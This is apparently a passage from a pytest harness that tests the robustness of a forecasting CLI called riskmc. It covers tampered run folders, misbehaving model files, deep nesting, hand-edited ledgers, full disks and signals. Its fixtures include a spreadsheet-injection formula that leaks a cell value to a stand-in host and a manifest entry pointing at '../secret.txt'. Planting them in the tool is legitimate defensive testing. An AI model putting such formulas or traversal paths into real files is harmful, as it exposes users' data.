"""Every verb's attack surface, in one harness: outputs that would destroy inputs, folders
that lie, models that exit, print or hang, events nested past reason, hand-edited ledgers,
formulas in text, files that are not what `extends` says.

Each case ends in its documented exit code and one line on stderr, never a traceback,
and leaves every input byte for byte as it was. A new verb adds its rows to the tables
(OUT_IS_INPUT, KIND_OF, READERS, EVALUATORS...) and is covered. `make fuzz` runs this
file with RISKMC_FUZZ=1: the property tests at the end then try many more random cases.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import sqlite3
import stat
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from riskmc.cli import app
from tests.conftest import BASE, ROOT

runner = CliRunner()
FUZZ = bool(os.environ.get("RISKMC_FUZZ"))

# A model whose misbehaviour is chosen by the environment: the same file (so the same
# SHA-256, so `ask` accepts it) runs well for the fixture's run, and badly for the case.
MODEL = '''
import os
import sys
import time

import numpy as np

import riskmc

MODE = os.environ.get("RISKMC_TEST_MODE", "")
if MODE == "import-exit-0":
    sys.exit(0)
if MODE == "import-exit-bye":
    raise SystemExit("bye")
if MODE == "import-print":
    print("hello from the model file")


def grow(x, years):
    if MODE == "exit-0":
        sys.exit(0)
    if MODE == "exit-bye":
        raise SystemExit("bye")
    if MODE == "keyboard":
        raise KeyboardInterrupt
    if MODE == "generator-exit":
        raise GeneratorExit
    if MODE == "raise":
        raise ValueError("nope")
    if MODE == "print":
        print("hello from the model")
        os.write(1, b"raw bytes on fd 1\\n")
        sys.__stdout__.write("and on sys.__stdout__\\n")
    if MODE == "sleep":
        open(os.environ["RISKMC_TEST_BUSY"], "w").close()
        time.sleep(1000)
    if MODE == "spin":
        open(os.environ["RISKMC_TEST_BUSY"], "w").close()
        while True:
            pass
    t = np.arange(len(years))
    return {"revenue": x["base"][:, None] * (1 + x["rate"][:, None]) ** t}


MODEL = riskmc.Model(
    "grow",
    inputs=[riskmc.Input("base", "$B", "revenue in the first year", 0),
            riskmc.Input("rate", "fraction/yr", "growth per year", -1)],
    outputs=[riskmc.Output("revenue", "$B", "revenue", headline=True)],
    years=range(2025, 2029),
    vectorised=grow,
)
'''

PRIORS = '''
model = "../models/grow.py"
title = "Grow"

[run]
seed = 3

[priors.base]
description = "d"
unit = "$B"
source = "assumption"
range = [90, 110]

[priors.rate]
description = "d"
unit = "fraction/yr"
source = "assumption"
family = "normal"
mean = 0.15
sd = 0.05

[claims.double]
text = "=HYPERLINK(\\"http://example.invalid/?leak=\\"&A1,\\"click\\")"
output = "revenue"
year = 2028
above = 150
'''


def snapshot(root: Path) -> dict:
    """Every file under root (hidden ones too) with its bytes, and every folder."""
    out = {}
    for p in sorted(root.rglob("*")):
        if p.is_symlink():
            out[str(p.relative_to(root))] = ("link", os.readlink(p))
        elif p.is_file():
            out[str(p.relative_to(root))] = p.read_bytes()
        elif p.is_dir():
            out[str(p.relative_to(root))] = "dir"
    return out


def cli(*args, env=None):
    """In-process, as the suite's other CLI tests."""
    return runner.invoke(app, [str(a) for a in args], env=env)


def proc(*args, env=None, cwd=None, timeout=300):
    """A real riskmc process: its own exit code, stdout, stderr and signal handlers."""
    e = dict(os.environ, PYTHONUNBUFFERED="1", **(env or {}))
    return subprocess.run([sys.executable, "-m", "riskmc", *map(str, args)], cwd=cwd or ROOT, env=e,
                          capture_output=True, text=True, timeout=timeout)


def one_line(stderr: str, code: int, got: int, pattern: str | None = None) -> str:
    assert got == code, stderr
    assert "Traceback" not in stderr, stderr
    assert stderr.count("\n") == 1 and stderr.endswith("\n"), stderr
    line = stderr[:-1]
    if pattern is not None:
        assert re.fullmatch(pattern, line), line
    return line


def leftovers(root: Path) -> list[str]:
    """Hidden folders or files a command staged and left behind."""
    return [str(p) for p in root.rglob(".*riskmc-*")] + [str(p) for p in root.rglob("*.part")]


@pytest.fixture(scope="module")
def ws(tmp_path_factory):
    """A workspace holding one of each folder riskmc writes: runs of the base case and of a
    user's model, an ask, a comparison, an export, a ledger and its report."""
    w = tmp_path_factory.mktemp("ws")
    (w / "models").mkdir()
    (w / "priors").mkdir()
    (w / "models" / "grow.py").write_text(textwrap.dedent(MODEL).lstrip())
    (w / "priors" / "grow.toml").write_text(textwrap.dedent(PRIORS).lstrip())
    # Forecasts (their draws and seeds in [run], not on the command line), so the ledger
    # takes them.
    base = BASE.read_text()
    assert "seed = 20251202\ndraws = 100000\n" in base
    (w / "priors" / "base.toml").write_text(base.replace("seed = 20251202\ndraws = 100000\n",
                                                         "seed = 1\ndraws = 3000\n"))
    (w / "priors" / "base-b.toml").write_text('extends = "base.toml"\n[run]\nseed = 2\n')
    steps = [
        ("run", w / "priors" / "base.toml", "--out", w / "run", "-q"),
        ("run", w / "priors" / "base-b.toml", "--out", w / "runb", "-q"),
        ("run", w / "priors" / "grow.toml", "--draws", 2000, "--no-save-draws", "--out", w / "grun", "-q"),
        ("ask", w / "run", "nvidia_share[2030] < 0.7", "--out", w / "askd", "-q"),
        ("voi", w / "run", "--out", w / "vo", "-q"),
        ("compare", w / "run", w / "runb", "--out", w / "cmp", "-q"),
        ("export", w / "run", "--csv", "--out", w / "exp", "-q"),
        ("ledger", "record", w / "run", "--ledger", w / "led" / "ledger.sqlite", "-q"),
        ("ledger", "report", "--ledger", w / "led" / "ledger.sqlite", "--out", w / "ledrep", "-q"),
    ]
    (w / "led").mkdir()
    for s in steps:
        r = cli(*s)
        assert r.exit_code == 0, (s, r.output)
    return w


@pytest.fixture
def copy(ws, tmp_path):
    """A private copy of the workspace, for cases that damage it."""
    dst = tmp_path / "ws"
    shutil.copytree(ws, dst, symlinks=True)
    return dst


# ------------------------------------------------------------------ 1. outputs never destroy inputs
EVENT = "nvidia_share[2030] < 0.7"
IS_INPUT = r"riskmc: error: --(out|depfile|html) \S+ (is a folder this command reads|holds \S+, which this command " \
           r"reads|lies inside \S+, which this command reads|is a file this command reads): .*nothing was written.*"
OUT_IS_INPUT = [
    ("ask", lambda w: ["ask", w / "run", EVENT, "--out", w / "run"]),
    ("ask-inside", lambda w: ["ask", w / "run", EVENT, "--out", w / "run" / "sub"]),
    ("ask-above", lambda w: ["ask", w / "run", EVENT, "--out", w]),
    ("export", lambda w: ["export", w / "run", "--csv", "--out", w / "run"]),
    ("voi", lambda w: ["voi", w / "run", "--out", w / "run"]),
    ("voi-above", lambda w: ["voi", w / "run", "--out", w]),
    ("compare-first", lambda w: ["compare", w / "run", w / "runb", "--out", w / "run"]),
    ("compare-second", lambda w: ["compare", w / "run", w / "runb", "--out", w / "runb"]),
    ("run-priors-folder", lambda w: ["run", w / "priors" / "base.toml", "--out", w / "priors"]),
    ("run-depfile-priors", lambda w: ["run", w / "priors" / "base.toml", "--draws", 2000, "--out", w / "new",
                                      "--depfile", w / "priors" / "base.toml"]),
    ("run-depfile-model", lambda w: ["run", w / "priors" / "grow.toml", "--draws", 2000, "--out", w / "new",
                                     "--depfile", w / "models" / "grow.py"]),
    ("sensitivity-priors-folder", lambda w: ["sensitivity", w / "priors" / "base.toml", "--out", w / "priors"]),
    ("priors-show-html", lambda w: ["priors", "show", w / "priors" / "base.toml", "--html",
                                    w / "priors" / "base.toml"]),
    ("ledger-report", lambda w: ["ledger", "report", "--ledger", w / "led" / "ledger.sqlite", "--out", w / "led"]),
]


@pytest.mark.parametrize("case", OUT_IS_INPUT, ids=[c[0] for c in OUT_IS_INPUT])
def test_an_output_never_names_an_input(copy, case):
    before = snapshot(copy)
    r = cli(*case[1](copy))
    one_line(r.stderr, 2, r.exit_code, IS_INPUT)
    assert snapshot(copy) == before


OTHER_FILES = [
    ("depfile-takes-summary", lambda w: ["run", w / "priors" / "base.toml", "--draws", 2000, "--out", w / "new",
                                         "--depfile", w / "new" / "summary.json"],
     r"riskmc: error: --depfile \S+ would take the name of a file the run writes, or a hidden one; nothing was "
     r"written \(name it e\.g\. deps\.mk\)"),
    ("depfile-in-another-run", lambda w: ["run", w / "priors" / "base.toml", "--draws", 2000, "--out", w / "new",
                                          "--depfile", w / "runb" / "deps.mk"],
     r"riskmc: error: --depfile \S+ lies in a folder that holds a run: it would no longer match its manifest\.json; "
     r"nothing was written \(choose another file with --depfile\)"),
    ("html-in-a-run", lambda w: ["priors", "show", w / "priors" / "base.toml", "--html", w / "run" / "p.html"],
     r"riskmc: error: --html \S+ lies in a folder that holds a run: .*"),
]


@pytest.mark.parametrize("case", OTHER_FILES, ids=[c[0] for c in OTHER_FILES])
def test_a_file_output_never_lands_in_a_committed_folder(copy, case):
    before = snapshot(copy)
    r = cli(*case[1](copy))
    one_line(r.stderr, 2, r.exit_code, case[2])
    assert snapshot(copy) == before


# The folder each verb writes, and what kind of folder it is.
WRITERS = {
    "run": (lambda w, out: ["run", w / "priors" / "base.toml", "--draws", 2000, "--out", out, "-q"], "run"),
    "sensitivity": (lambda w, out: ["sensitivity", w / "priors" / "base.toml", "--draws", 64, "--out", out, "-q"],
                    "run"),
    "ask": (lambda w, out: ["ask", w / "run", EVENT, "--out", out, "-q"], "ask"),
    "voi": (lambda w, out: ["voi", w / "run", "--out", out, "-q"], "voi"),
    "compare": (lambda w, out: ["compare", w / "run", w / "runb", "--out", out, "-q"], "compare"),
    "export": (lambda w, out: ["export", w / "run", "--csv", "--out", out, "-q"], "export"),
    "ledger-report": (lambda w, out: ["ledger", "report", "--ledger", w / "led" / "ledger.sqlite", "--out", out,
                                      "-q"], "ledger"),
}
KIND_OF = {"run": "grun", "ask": "askd", "voi": "vo", "compare": "cmp", "export": "exp", "ledger": "ledrep"}
CROSS = [(verb, kind) for verb, (_, own) in WRITERS.items() for kind in KIND_OF if kind != own]


@pytest.mark.parametrize("verb,kind", CROSS, ids=[f"{v}-onto-{k}" for v, k in CROSS])
def test_an_output_never_replaces_another_kind_of_folder(copy, verb, kind):
    before = snapshot(copy)
    target = copy / KIND_OF[kind]
    r = cli(*WRITERS[verb][0](copy, target))
    pattern = (rf"riskmc: error: --out {re.escape(str(target))} holds .* \(\S+\), which this command would replace; "
               r"nothing was written \(choose another folder with --out\)")
    if (verb, kind) == ("ledger-report", "run"):  # its own words, older than the rule
        pattern = (rf"riskmc: error: {re.escape(str(target))} holds a run: the ledger's page goes in a folder of its "
                   r"own \(give another --out, e\.g\. reports/ledger\)")
    one_line(r.stderr, 2, r.exit_code, pattern)
    assert snapshot(copy) == before


@pytest.mark.parametrize("verb", list(WRITERS))
def test_each_verb_replaces_its_own_kind(copy, verb):
    """The other side of the rule: writing again where the verb wrote before is fine."""
    make, kind = WRITERS[verb]
    target = copy / {**KIND_OF, "run": "run2"}[kind]
    if kind == "run":
        shutil.copytree(copy / "run", target)
    first = cli(*make(copy, target))
    assert first.exit_code == 0, first.output
    assert json.loads((target / "manifest.json").read_text())["kind"] == kind


# ------------------------------------------------------------------ 2. files that lie
def _rewrite_draws(f: Path) -> None:
    import polars as pl
    d = pl.read_parquet(f / "draws.parquet")
    d.with_columns(pl.col("nvidia_share_y2030") * 0 + 0.1).write_parquet(f / "draws.parquet")


def _manifest(f: Path, change) -> None:
    doc = json.loads((f / "manifest.json").read_text())
    change(doc)
    (f / "manifest.json").write_text(json.dumps(doc))


def _drop_altered(f: Path) -> None:
    (f / "draws.parquet").write_bytes((f / "draws.parquet").read_bytes() + b"x")
    _manifest(f, lambda d: d["files"].pop("draws.parquet"))


LIES = [
    ("draws-rewritten", _rewrite_draws, r"draws\.parquet (was changed after riskmc wrote it \(its SHA-256 differs from "
     r"manifest\.json\)|differs from the file riskmc wrote \(its SHA-256 does not match manifest\.json\)) \(re-run "
     r"the command that wrote this folder\)"),
    ("manifest-lists-nothing", lambda f: _manifest(f, lambda d: d["files"].clear()),
     r"manifest\.json lists no files: not as riskmc commits a folder \(re-run the command that wrote this folder\)"),
    ("manifest-drops-an-altered-file", _drop_altered,
     r"draws\.parquet lies here but manifest\.json does not list it: not as riskmc committed this folder \(re-run "
     r"the command that wrote this folder\)"),
    ("manifest-lists-a-secret", lambda f: _manifest(f, lambda d: d.update(
        files={"../secret.txt": {"sha256": "0" * 64, "bytes": 1}})),
     r"manifest\.json names '\.\./secret\.txt', which is not a file inside this folder \(re-run the command that "
     r"wrote this folder\)"),
    ("manifest-nested", lambda f: (f / "manifest.json").write_text("[" * 100_000 + "]" * 100_000),
     r"manifest\.json is damaged \(re-run the command that wrote this folder\)"),
    ("manifest-fifo", lambda f: ((f / "manifest.json").unlink(), os.mkfifo(f / "manifest.json")),
     r"cannot read manifest\.json: not a regular file"),
    ("manifest-gone", lambda f: (f / "manifest.json").unlink(),
     r"(no manifest\.json beside summary\.json|no manifest\.json): not a folder riskmc committed.*"),
    ("summary-fifo", lambda f: ((f / "summary.json").unlink(), os.mkfifo(f / "summary.json")),
     r"(cannot read summary\.json: not a regular file|summary\.json is missing or not a file, but manifest\.json "
     r"lists it.*)"),
    ("summary-link", lambda f: ((f / "summary.json").rename(f.parent / "s.json"),
                                (f / "summary.json").symlink_to(f.parent / "s.json")),
     r"(cannot read summary\.json: a link, not a file riskmc wrote|summary\.json is a link, not the file riskmc "
     r"wrote.*)"),
    ("draws-link", lambda f: ((f / "draws.parquet").rename(f.parent / "d.parquet"),
                              (f / "draws.parquet").symlink_to(f.parent / "d.parquet")),
     r"draws\.parquet is a link, not the file riskmc wrote .*"),
    ("manifest-link", lambda f: ((f / "manifest.json").rename(f.parent / "m.json"),
                                 (f / "manifest.json").symlink_to(f.parent / "m.json")),
     r"cannot read manifest\.json: a link, not a file riskmc wrote"),
    ("report-fifo", lambda f: ((f / "report.html").unlink(), os.mkfifo(f / "report.html")),
     r"report\.html is missing or not a file, but manifest\.json lists it .*"),
]
READERS = {
    "ask": lambda w: ["ask", w / "run", EVENT],
    "ask-given": lambda w: ["ask", w / "run", "--given", EVENT, "--json"],
    "voi": lambda w: ["voi", w / "run", "--out", w / "x"],
    "export": lambda w: ["export", w / "run", "--csv", "--out", w / "x"],
    "compare": lambda w: ["compare", w / "run", w / "runb", "--out", w / "x"],
    "report": lambda w: ["report", w / "run"],
    "verify": lambda w: ["verify", w / "run"],
    "sensitivity": lambda w: ["sensitivity", w / "priors" / "base.toml", "--draws", 64, "--out", w / "run"],
    "ledger-record": lambda w: ["ledger", "record", w / "run", "--ledger", w / "led" / "ledger.sqlite"],
}
# Each command checks the folder's listing and the bytes of each file it reads: report,
# sensitivity and ledger record do not read draws.parquet (verify checks every byte).
LIE_CASES = [(lie, reader) for lie in LIES for reader in READERS
             if not (lie[0] == "draws-rewritten" and reader in ("report", "sensitivity", "ledger-record"))]


@pytest.mark.parametrize("lie,reader", LIE_CASES, ids=[f"{lie[0]}-{r}" for lie, r in LIE_CASES])
def test_files_that_lie_are_caught(copy, lie, reader):
    name, damage, pattern = lie
    damage(copy / "run")
    before = snapshot(copy)
    r = proc(*READERS[reader](copy), timeout=120) if "fifo" in name else None
    if r is None:
        res = cli(*READERS[reader](copy))
        stderr, code = res.stderr, res.exit_code
        assert not res.stdout.strip() or reader == "ask-given", res.stdout
    else:
        stderr, code = r.stderr, r.returncode
        assert not r.stdout.strip(), r.stdout
    one_line(stderr, 4, code, rf"riskmc: error: {re.escape(str(copy / 'run'))}: " + pattern)
    assert snapshot(copy) == before
    assert not (copy / "x").exists()


def test_verify_passes_an_honest_folder_with_the_users_own_files(copy):
    (copy / "run" / "notes.txt").write_text("mine")
    for folder in ("run", "askd", "cmp", "exp", "ledrep"):
        r = cli("verify", copy / folder)
        assert r.exit_code == 0, r.output


# ------------------------------------------------------------------ 3. models that exit, print or hang
MODEL_ERROR = r"riskmc: error: \S*models/grow\.py:\d+: .*"
EVALUATORS = {
    "run": lambda w: ["run", w / "priors" / "grow.toml", "--draws", 2000, "--out", w / "grun", "-q"],
    "run-2-workers": lambda w: ["run", w / "priors" / "grow.toml", "--draws", 40_000, "--workers", 2,
                                "--out", w / "grun", "-q"],
    "ask": lambda w: ["ask", w / "grun", "revenue[2028] > 150"],
    "seek": lambda w: ["seek", w / "priors" / "grow.toml", "--vary", "rate", "--target",
                       "P(revenue[2028] > 150) = 0.5", "--draws", 2000],
    "sensitivity": lambda w: ["sensitivity", w / "priors" / "grow.toml", "--draws", 64, "--out", w / "grun"],
    "voi": lambda w: ["voi", w / "grun"],
    "priors-check": lambda w: ["priors", "check", w / "priors" / "grow.toml"],
}
MODES = {
    "import-exit-0": ("run", "ask", "seek", "sensitivity", "priors-check"),
    "import-exit-bye": ("run", "ask", "sensitivity", "priors-check"),
    "exit-0": ("run", "run-2-workers", "ask", "seek", "sensitivity", "voi"),
    "exit-bye": ("run", "ask", "sensitivity", "voi"),
    "keyboard": ("run", "run-2-workers", "ask"),
    "generator-exit": ("run",),
    "raise": ("run", "ask", "seek", "sensitivity", "voi"),
}
MODEL_CASES = [(mode, verb) for mode, verbs in MODES.items() for verb in verbs]


@pytest.mark.parametrize("mode,verb", MODEL_CASES, ids=[f"{m}-{v}" for m, v in MODEL_CASES])
def test_a_model_cannot_end_riskmc(ws, mode, verb):
    """sys.exit, SystemExit('bye'), a KeyboardInterrupt it raises itself: a model error
    (exit 3) naming the model's file and line, the earlier run kept."""
    before = snapshot(ws)
    r = proc(*EVALUATORS[verb](ws), env={"RISKMC_TEST_MODE": mode})
    line = one_line(r.stderr, 3, r.returncode, MODEL_ERROR)
    kind = {"raise": "ValueError", "keyboard": "KeyboardInterrupt", "generator-exit": "GeneratorExit"}.get(
        mode, "SystemExit")
    assert kind in line
    assert r.stdout == ""
    assert snapshot(ws) == before


JSON_VERBS = {
    "run": lambda w: ["run", w / "priors" / "grow.toml", "--draws", 2000, "--out", w / "printed", "--json"],
    "ask": lambda w: ["ask", w / "grun", "revenue[2028] > 150", "--json"],
    "voi": lambda w: ["voi", w / "grun", "--json"],
    "seek": lambda w: ["seek", w / "priors" / "grow.toml", "--vary", "rate", "--target",
                       "P(revenue[2028] > 150) = 0.5", "--draws", 2000, "--json"],
}


@pytest.mark.parametrize("mode", ["print", "import-print"])
@pytest.mark.parametrize("verb", list(JSON_VERBS))
def test_stdout_is_strict_json_whatever_the_model_prints(copy, verb, mode):
    r = proc(*JSON_VERBS[verb](copy), env={"RISKMC_TEST_MODE": mode})
    assert r.returncode == 0, r.stderr
    json.loads(r.stdout)  # nothing else on stdout
    assert "hello from the model" in r.stderr
    if mode == "print":
        assert "raw bytes on fd 1" in r.stderr and "and on sys.__stdout__" in r.stderr


def _handlers_in(pid: int) -> bool:
    try:
        text = Path(f"/proc/{pid}/status").read_text()
    except FileNotFoundError:
        return False
    mask = int(next(ln.split()[1] for ln in text.splitlines() if ln.startswith("SigCgt:")), 16)
    return bool(mask >> (signal.SIGTERM - 1) & 1)


BUSY_VERBS = {
    "run": lambda w: ["run", w / "priors" / "grow.toml", "--draws", 2000, "--out", w / "grun", "-q"],
    "run-2-workers": lambda w: ["run", w / "priors" / "grow.toml", "--draws", 40_000, "--workers", 2,
                                "--out", w / "grun", "-q"],
    "ask": lambda w: ["ask", w / "grun", "revenue[2028] > 150", "--out", w / "asked"],
    "seek": lambda w: ["seek", w / "priors" / "grow.toml", "--vary", "rate", "--target",
                       "P(revenue[2028] > 150) = 0.5", "--draws", 2000],
    "sensitivity": lambda w: ["sensitivity", w / "priors" / "grow.toml", "--draws", 64, "--out", w / "grun"],
    "voi": lambda w: ["voi", w / "grun", "--out", w / "learned"],
}


# Every verb that evaluates the model, asleep and spinning, takes SIGTERM; the runs take Ctrl-C too.
BUSY_CASES = [(v, m, signal.SIGTERM) for v in BUSY_VERBS for m in ("sleep", "spin")] + [
    (v, "sleep", signal.SIGINT) for v in ("run", "run-2-workers")]


@pytest.mark.parametrize("verb,mode,sig", BUSY_CASES, ids=[f"{v}-{m}-{s.name}" for v, m, s in BUSY_CASES])
def test_signals_reach_a_busy_model(copy, verb, mode, sig):
    """A model stuck inside its function (asleep, or spinning in Python) still stops on
    SIGTERM or Ctrl-C: 143 or 130, one line, nothing written or left behind."""
    busy = copy / "busy"
    before = snapshot(copy)
    env = dict(os.environ, PYTHONUNBUFFERED="1", RISKMC_TEST_MODE=mode, RISKMC_TEST_BUSY=str(busy))
    p = subprocess.Popen([sys.executable, "-m", "riskmc", *map(str, BUSY_VERBS[verb](copy))], cwd=ROOT, env=env,
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 120
        while not (busy.exists() and _handlers_in(p.pid)):
            assert p.poll() is None, p.communicate()
            assert time.monotonic() < deadline, "the model never started"
            time.sleep(0.01)
        p.send_signal(sig)
        out, err = p.communicate(timeout=30)  # about a second here; generous for a loaded machine
    finally:
        p.kill()
    busy.unlink()
    word = "terminated (SIGTERM)" if sig == signal.SIGTERM else "interrupted (Ctrl-C)"
    one_line(err, 128 + sig, p.returncode, rf"riskmc: {re.escape(word)}: nothing was written.*")
    assert out == ""
    assert snapshot(copy) == before
    assert not leftovers(copy)


def test_a_long_export_stops_on_sigterm(ws, tmp_path):
    """A workbook of every draw is one long write into a library that never looks at
    signals: SIGTERM still ends it (143, one line), or it had finished (0, whole)."""
    run = tmp_path / "big"
    assert cli("run", BASE, "--draws", 20_000, "--seed", 1, "--out", run, "-q").exit_code == 0
    out = tmp_path / "big-export"
    env = dict(os.environ, PYTHONUNBUFFERED="1")
    p = subprocess.Popen([sys.executable, "-m", "riskmc", "export", str(run), "--csv", "--xlsx", "--out", str(out)],
                         cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 120
        while not list(tmp_path.glob(".big-export.riskmc-*")):
            if p.poll() is not None:
                break
            assert time.monotonic() < deadline, "the export never started writing"
            time.sleep(0.005)
        p.send_signal(signal.SIGTERM)
        _, err = p.communicate(timeout=30)
    finally:
        p.kill()
    if p.returncode == 0:
        assert cli("verify", out).exit_code == 0
    else:
        one_line(err, 143, p.returncode, r"riskmc: terminated \(SIGTERM\): nothing was written.*")
        assert not out.exists()
    assert not leftovers(tmp_path)


# ------------------------------------------------------------------ 4. no tracebacks
DEEP = [
    ("parentheses", "(" * 500 + EVENT + ")" * 500),
    ("not", "not " * 2000 + EVENT),
    ("long", " or ".join([EVENT] * 2000)),
]
DEEP_VERBS = {
    "ask": lambda w, e: ["ask", w / "run", e],
    "ask-given": lambda w, e: ["ask", w / "run", EVENT, "--given", e],
    "ask-stress": lambda w, e: ["ask", w / "run", "--stress", f"P({e}) = 0.3"],
    "seek": lambda w, e: ["seek", w / "priors" / "base.toml", "--vary", "custom_share_2030", "--target",
                          f"P({e}) = 0.3", "--draws", 2000],
}
DEEP_CASES = [(d, v) for d in DEEP for v in DEEP_VERBS]


@pytest.mark.parametrize("deep,verb", DEEP_CASES, ids=[f"{d[0]}-{v}" for d, v in DEEP_CASES])
def test_events_nested_past_reason(ws, deep, verb):
    r = cli(*DEEP_VERBS[verb](ws, deep[1]))
    one_line(r.stderr, 2, r.exit_code, r"riskmc: error: an event (nests parentheses and 'not' more than 64 deep|is "
                                       r"[\d,]+ characters long, more than 10,000).*")


def test_a_claim_nested_past_reason_names_its_line(ws, tmp_path):
    text = (ws / "priors" / "base.toml").read_text() + f'\n[claims.deep]\ntext = "x"\nevent = "{DEEP[0][1]}"\n'
    p = tmp_path / "deep.toml"
    p.write_text(text)
    r = cli("priors", "check", p)
    one_line(r.stderr, 3, r.exit_code, rf"riskmc: error: {re.escape(str(p))}:\d+: .*more than 64 deep.*")


def test_a_constant_headline_output_and_tiny_runs(copy, tmp_path):
    """No variation, no drivers: the run still writes strict JSON (NaN never reaches it)."""
    src = (copy / "models" / "grow.py").read_text().replace(
        'return {"revenue": x["base"][:, None] * (1 + x["rate"][:, None]) ** t}',
        'return {"revenue": np.ones((len(x["base"]), len(years)))}')
    (copy / "models" / "grow.py").write_text(src)
    for draws in (2, 5, 2000):
        r = cli("run", copy / "priors" / "grow.toml", "--draws", draws, "--out", tmp_path / f"c{draws}", "-q")
        assert r.exit_code == 0, r.output
        s = json.loads((tmp_path / f"c{draws}" / "summary.json").read_text())
        assert s["drivers"]["outputs"]["revenue"] == []
    for draws in (1, 2, 3):
        r = cli("run", BASE, "--draws", draws, "--out", tmp_path / f"b{draws}", "-q")
        assert r.exit_code == 0, r.output


@pytest.mark.parametrize("trials", [2 ** 53 + 1, 2 ** 63 - 1, 10 ** 30])
def test_binomial_evidence_with_absurd_trials(tmp_path, trials):
    p = tmp_path / "b.toml"
    p.write_text(f'extends = "{BASE}"\ntitle = "t"\n[evidence.b]\noutput = "nvidia_share"\nyear = 2026\n'
                 f'successes = {trials - 1}\ntrials = {trials}\nsource = "a"\n')
    r = cli("run", p, "--draws", 2000, "--out", tmp_path / "o")
    one_line(r.stderr, 3, r.exit_code, rf"riskmc: error: {re.escape(str(p))}:7: evidence 'b': trials must be at "
                                       r"most 9,007,199,254,740,992 .*")


def test_binomial_evidence_beyond_the_prior_names_its_table(tmp_path):
    """2^53 trials, one failure: log(1 - k/n) comes from the whole numbers (no domain
    error), and evidence the prior cannot reach is refused at its table's line."""
    p = tmp_path / "b.toml"
    p.write_text(f'extends = "{BASE}"\ntitle = "t"\n[evidence.b]\noutput = "nvidia_share"\nyear = 2026\n'
                 f'successes = {2 ** 53 - 1}\ntrials = {2 ** 53}\nsource = "a"\n')
    r = cli("run", p, "--draws", 2000, "--seed", 1, "--out", tmp_path / "o")
    one_line(r.stderr, 3, r.exit_code, rf"riskmc: error: {re.escape(str(p))}:3: evidence 'b' .*")


def test_export_onto_a_full_disk(copy, tmp_path, monkeypatch):
    import errno

    import polars as pl
    real = pl.DataFrame.write_csv

    def full(self, *a, **k):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pl.DataFrame, "write_csv", full)
    r = cli("export", copy / "run", "--csv", "--out", copy / "exp")
    monkeypatch.setattr(pl.DataFrame, "write_csv", real)
    one_line(r.stderr, 4, r.exit_code, rf"riskmc: error: {re.escape(str(copy / 'exp'))}: cannot write the export: No "
                                       r"space left on device \(free some space or choose another folder with --out\)")
    assert not leftovers(copy)


def _tmpfs(path: Path, size: str) -> bool:
    path.mkdir()
    if os.geteuid() != 0:
        return False
    return subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(path)],
                          capture_output=True).returncode == 0


@pytest.mark.parametrize("verb", ["export", "run", "ask", "compare"])
def test_a_real_full_disk(ws, tmp_path, verb):
    """On a small file system that fills up: exit 4 and one line, nothing left on it."""
    disk = tmp_path / "disk"
    if not _tmpfs(disk, "8k" if verb in ("ask", "compare") else "96k"):
        pytest.skip("needs root to mount a small tmpfs (the monkeypatched test covers the logic)")
    try:
        args = {"export": ["export", ws / "run", "--csv", "--xlsx", "--out", disk / "o"],
                "run": ["run", BASE, "--draws", 3000, "--save-draws", "--out", disk / "o"],
                "ask": ["ask", ws / "run", EVENT, "--given", EVENT, "--out", disk / "o"],
                "compare": ["compare", ws / "run", ws / "runb", "--out", disk / "o"]}[verb]
        r = proc(*args)
        one_line(r.stderr, 4, r.returncode, rf"riskmc: error: {re.escape(str(disk / 'o'))}: .*")
        assert os.listdir(disk) == []
    finally:
        subprocess.run(["umount", str(disk)], capture_output=True)


# ------------------------------------------------------------------ 5. ledgers edited by hand
EDITS = [
    ("zero-draws", "UPDATE runs SET draws = 0", r"runs\.draws = 0"),
    ("huge-mcse", "UPDATE forecasts SET mcse = 1e308", r"forecasts\.mcse = 1e\+308"),
    ("blob-text", "UPDATE forecasts SET text = CAST('abc' AS BLOB)", r"forecasts\.text = 3 bytes of binary data"),
    ("probability-2", "UPDATE forecasts SET probability = 2", r"forecasts\.probability = 2(\.0)?"),
    ("bad-date", "UPDATE runs SET created = 'last week'", r"runs\.created = 'last week'"),
    ("bad-outcome", "INSERT INTO outcomes VALUES ('C1', 7, '2027-01-01', 's', 'now')", None),
]
LEDGER_VERBS = {
    "record": lambda w, led: ["ledger", "record", w / "runb", "--ledger", led],
    "resolve": lambda w, led: ["ledger", "resolve", "C2", "--outcome", "false", "--date", "2026-11-30", "--source",
                               "s", "--ledger", led],
    "show": lambda w, led: ["ledger", "show", "--ledger", led],
    "report": lambda w, led: ["ledger", "report", "--ledger", led, "--out", w / "lr2"],
}
LEDGER_CASES = [(e, v) for e in EDITS for v in LEDGER_VERBS]


@pytest.mark.parametrize("edit,verb", LEDGER_CASES, ids=[f"{e[0]}-{v}" for e, v in LEDGER_CASES])
def test_a_ledger_edited_by_hand_is_refused_unchanged(copy, edit, verb):
    led = copy / "led" / "ledger.sqlite"
    db = sqlite3.connect(led)
    db.execute("PRAGMA ignore_check_constraints = ON")  # a hand edit can step past the schema's CHECKs
    db.execute(edit[1])
    db.commit()
    db.close()
    before = snapshot(copy)
    r = cli(*LEDGER_VERBS[verb](copy, led))
    pattern = (rf"riskmc: error: {re.escape(str(led))}: the ledger (holds a value riskmc never writes: "
               rf"{edit[2] or '.*'}|is damaged \(SQLite's integrity check fails\)); nothing was changed \(restore it "
               r"from a backup, or record into a new --ledger PATH\)")
    one_line(r.stderr, 6, r.exit_code, pattern)
    assert snapshot(copy) == before


# ------------------------------------------------------------------ 6. nothing left behind
PLAIN = ["setpriv", "--bounding-set=-dac_override,-dac_read_search,-fowner"]


def as_plain_user(*args, cwd=None):
    """riskmc as a user without root's power over permissions (root ignores chmod)."""
    if os.geteuid() != 0:
        return proc(*args, cwd=cwd)
    if shutil.which("setpriv") is None:
        pytest.skip("needs setpriv to drop root's override of file permissions")
    env = dict(os.environ, PYTHONUNBUFFERED="1")
    return subprocess.run([*PLAIN, sys.executable, "-m", "riskmc", *map(str, args)], cwd=cwd or ROOT, env=env,
                          capture_output=True, text=True, timeout=300)


def test_replacing_a_read_only_run_folder_leaves_nothing(copy):
    run = copy / "run"
    for p in run.iterdir():
        p.chmod(0o444)
    run.chmod(0o555)
    try:
